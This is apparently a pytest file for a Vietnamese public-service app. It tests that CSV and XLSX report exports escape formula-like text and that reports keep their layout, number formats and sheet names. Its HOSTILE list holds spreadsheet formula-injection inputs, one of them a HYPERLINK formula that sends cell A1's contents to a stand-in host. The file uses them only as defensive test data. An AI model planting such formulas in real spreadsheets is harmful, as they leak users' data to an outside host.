import csv
import io

import pytest
from openpyxl import load_workbook

from motcua.core.spreadsheets import (
    COUNT,
    PERCENT,
    Column,
    Heading,
    csv_export,
    sheet_name,
    spreadsheet_cell,
    xlsx_report,
)

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Xem")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_is_escaped(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, 0, 2.5, -0.5, "Phường Hoàn Kiếm", "", None, "a=b", "1-2"])
def test_everything_else_is_kept(value):
    assert spreadsheet_cell(value) == value


def test_csv_export_escapes_text_and_keeps_numbers():
    text = csv_export(["Đơn vị", "Số"], [[HOSTILE[0], -3], ["-5", 2.5]])
    assert text.startswith("\ufeff")  # Excel opens UTF-8 with a BOM
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [["Đơn vị", "Số"], ["'" + HOSTILE[0], "-3"], ["'-5", "2.5"]]


def test_xlsx_report_writes_text_never_formulas():
    columns = [Column("=Đơn vị"), Column("Số", COUNT)]
    rows = [[text, -3] for text in HOSTILE] + [["ok", 2.5]]
    data = xlsx_report(columns, rows, heading=Heading("=Báo cáo", ("+kỳ",)), sheet_title="Báo cáo")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert sheet["A1"].value == "'=Báo cáo" and sheet["A2"].value == "'+kỳ"
    assert sheet["A4"].value == "'=Đơn vị" and sheet["A5"].value == "'" + HOSTILE[0]
    assert all(sheet.cell(row=r, column=1).data_type == "s" for r in range(4, len(HOSTILE) + 6))
    assert sheet["B5"].value == -3 and sheet["B5"].data_type == "n" and sheet["B5"].number_format == "#,##0"
    assert sheet.cell(row=sheet.max_row, column=2).value == 2.5


def test_xlsx_report_layout():
    columns = [Column("Đơn vị"), Column("Đã tiếp nhận", COUNT), Column("Tỷ lệ đúng hạn (%)", PERCENT)]
    rows = [["Chi nhánh số 1", 1234567, 87.5], ["Tổng cộng", 1234567, ""]]
    heading = Heading("Báo cáo tình hình giải quyết hồ sơ", ("Kỳ báo cáo: tháng 3/2026", "Đơn vị: Trung tâm"))
    data = xlsx_report(columns, rows, heading=heading, sheet_title="Báo cáo theo đơn vị", total_row=True)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Báo cáo theo đơn vị"
    assert sheet["A1"].font.b and sheet["A1"].font.sz == 14
    assert "A1:C1" in {str(r) for r in sheet.merged_cells.ranges}
    assert [c.value for c in sheet[5]] == ["Đơn vị", "Đã tiếp nhận", "Tỷ lệ đúng hạn (%)"] and sheet["B5"].font.b
    assert sheet.freeze_panes == "B6"
    assert sheet["B6"].value == 1234567 and sheet["B6"].number_format == "#,##0"
    assert sheet["C6"].value == 0.875 and sheet["C6"].number_format == "0.0%"
    assert sheet["A7"].font.b  # the total
    assert sheet.column_dimensions["B"].width >= len("1,234,567")
    assert sheet.print_title_rows == "$5:$5"


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Báo cáo theo đơn vị giải quyết", "Báo cáo theo đơn vị giải quyết"),
        ("Báo cáo: [03/2026] *?\\ theo xã, phường và đặc khu", "Báo cáo 03 2026 theo xã, phường"),
        ("'Báo cáo'", "Báo cáo"),
        ("[]", "Sheet1"),
    ],
)
def test_sheet_names_keep_diacritics_and_excel_accepts_them(text, name):
    assert sheet_name(text) == name and len(name) <= 31
